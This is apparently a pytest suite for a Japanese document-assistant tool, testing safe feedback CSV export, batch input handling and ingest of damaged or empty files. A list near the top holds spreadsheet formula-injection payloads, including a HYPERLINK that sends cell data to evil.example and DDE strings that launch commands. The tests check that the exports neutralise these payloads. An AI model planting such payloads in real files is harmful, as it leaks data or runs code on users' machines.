"""Files that turn on their reader: a feedback export that becomes spreadsheet formulas, a
batch file with a bad byte or a BOM, an output that would overwrite its input, Markdown
that is not quite UTF-8, documents with no text. Real SQLite, real CLI, real ingest."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from assistant.app.feedback import FeedbackRecord, FeedbackStore, csv_safe, export_text
from assistant.cli.main import app
from assistant.ingest.loaders import read_text_file
from assistant.ingest.pipeline import ingest
from tests.conftest import write
from tests.pdfs import make_pdf

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _record(turn: int, comment: str, question: str = "質問") -> FeedbackRecord:
    return FeedbackRecord(
        conversation_id="c1", turn=turn, rating=-1, persona="sme", lang="ja", question=question,
        condensed_query=question, answer="回答", abstained=False, evidence_level="strong",
        citations=[{"n": 1, "title": "=1+1"}], comment=comment,
    )


def test_csv_cells_cannot_become_formulas(tmp_path):
    store = FeedbackStore(tmp_path)
    for turn, text in enumerate(FORMULAS):
        store.record(_record(turn, text, question=text))
    rows = list(csv.DictReader(io.StringIO(export_text(store.all(), "csv"))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("comment", "question", "condensed_query"):
            assert row[column].startswith("'"), row[column]  # a spreadsheet shows it as text
    jsonl = [json.loads(line) for line in export_text(store.all(), "jsonl").splitlines()]
    assert [r["comment"] for r in jsonl] == [c.strip() for c in FORMULAS]  # JSONL keeps them as they are
    assert csv_safe("ABLとは？") == "ABLとは？" and csv_safe(3) == 3


def test_the_cli_export_escapes_formulas(tmp_path, monkeypatch):
    monkeypatch.setenv("IPFIN_HOME", str(tmp_path / "home"))
    FeedbackStore(tmp_path / "home").record(_record(1, '=HYPERLINK("http://evil.example","x")'))
    out = tmp_path / "feedback.csv"
    result = CliRunner().invoke(app, ["feedback", "export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(out.open(encoding="utf-8")))
    assert row["comment"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"


def test_a_damaged_citation_cell_does_not_stop_an_export(tmp_path):
    import sqlite3

    store = FeedbackStore(tmp_path)
    store.record(_record(1, "ok"))
    with sqlite3.connect(store.path) as conn:
        conn.execute("UPDATE feedback SET citations = '{not json'")
    [record] = store.all()
    assert record.citations == [{"unreadable": "{not json"}]


# ------------------------------------------------------------------ ipfin ask --batch


@pytest.fixture
def indexed(monkeypatch, bundled_settings):
    monkeypatch.setenv("IPFIN_HOME", str(bundled_settings.home))
    return bundled_settings


def _rows(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def test_batch_with_a_bom_and_a_bad_byte_answers_every_good_line(indexed, tmp_path):
    good = json.dumps({"id": "q1", "question": "ABLとは何ですか？"}, ensure_ascii=False).encode()
    last = json.dumps({"id": "q4", "question": "企業価値担保権とは何ですか？"}, ensure_ascii=False).encode()
    src = tmp_path / "in.jsonl"
    src.write_bytes(b"\xef\xbb\xbf" + good + b"\r\n" + b'{"id": "q2", "question": "\xff\xfe"}\n' + b"[" * 50_000 + b"\n" + last + b"\n")
    out = tmp_path / "out.jsonl"
    result = CliRunner().invoke(app, ["ask", "--batch", str(src), "--out", str(out)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    rows = _rows(out.read_text(encoding="utf-8"))
    assert [r["id"] for r in rows] == ["q1", 2, 3, "q4"]
    assert "answer" in rows[0] and "answer" in rows[3]
    assert "not UTF-8 (byte 0xff" in rows[1]["error"] and "nested too deeply" in rows[2]["error"]


def test_batch_refuses_to_overwrite_its_input(indexed, tmp_path):
    src = write(tmp_path / "q.jsonl", '{"id": 1, "question": "ABLとは何ですか？"}\n')
    before = src.read_bytes()
    for out in (src, tmp_path / "." / "q.jsonl"):
        result = CliRunner().invoke(app, ["ask", "--batch", str(src), "--out", str(out)])
        assert result.exit_code == 1 and "would overwrite the questions" in result.stderr
    link = tmp_path / "link.jsonl"
    link.symlink_to(src)
    result = CliRunner().invoke(app, ["ask", "--batch", str(src), "--out", str(link)])
    assert result.exit_code == 1 and "would overwrite the questions" in result.stderr
    assert src.read_bytes() == before


def test_batch_of_utf16_is_refused_with_a_reason(indexed, tmp_path):
    src = tmp_path / "q.jsonl"
    src.write_bytes('{"id": 1, "question": "ABL"}\n'.encode("utf-16"))
    result = CliRunner().invoke(app, ["ask", "--batch", str(src)])
    assert result.exit_code == 1 and "UTF-16" in result.stderr


# ------------------------------------------------------------------ documents


def test_damaged_utf8_markdown_is_refused_not_garbled(work_settings, embedder, tmp_path):
    text = "# ABLのメモ\n\nABLは、在庫や売掛金を担保にする融資である。審査では在庫の評価が重要である。\n".encode()
    damaged = text[:30] + b"\xff" + text[31:]  # 0xff is never UTF-8
    path = tmp_path / "memo.md"
    path.write_bytes(damaged)
    report = ingest(work_settings, embedder, [path])
    assert len(report.errors) == 1 and "UTF-8 with damaged bytes" in report.errors[0] and "line 3" in report.errors[0]
    assert report.documents == 0


def test_shift_jis_and_euc_jp_are_still_read(tmp_path):
    text = "# ABLのメモ\n\nABLは、在庫や売掛金を担保にする融資である。\n"
    for encoding in ("cp932", "euc_jp"):
        path = tmp_path / f"{encoding}.md"
        path.write_bytes(text.encode(encoding))
        assert read_text_file(path) == text


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("empty.md", b""),
        ("title-only.md", "# 見出しだけ\n".encode()),
        ("front-matter-only.md", b"---\ntitle: x\n---\n"),
        ("empty.html", b"<html><body></body></html>"),
        ("spaces.txt", b"   \n\n  \n"),
    ],
)
def test_a_document_without_text_is_reported(work_settings, embedder, tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    report = ingest(work_settings, embedder, [path])
    assert report.documents == 0 and len(report.errors) == 1 and "no text to index" in report.errors[0]


def test_a_scanned_pdf_is_reported(work_settings, embedder, tmp_path):
    pdf = make_pdf(tmp_path / "scan.pdf", [[], []], image_pages=(1, 2))
    report = ingest(work_settings, embedder, [pdf])
    assert report.documents == 0 and "none of its 2 page(s) has text" in report.errors[0]
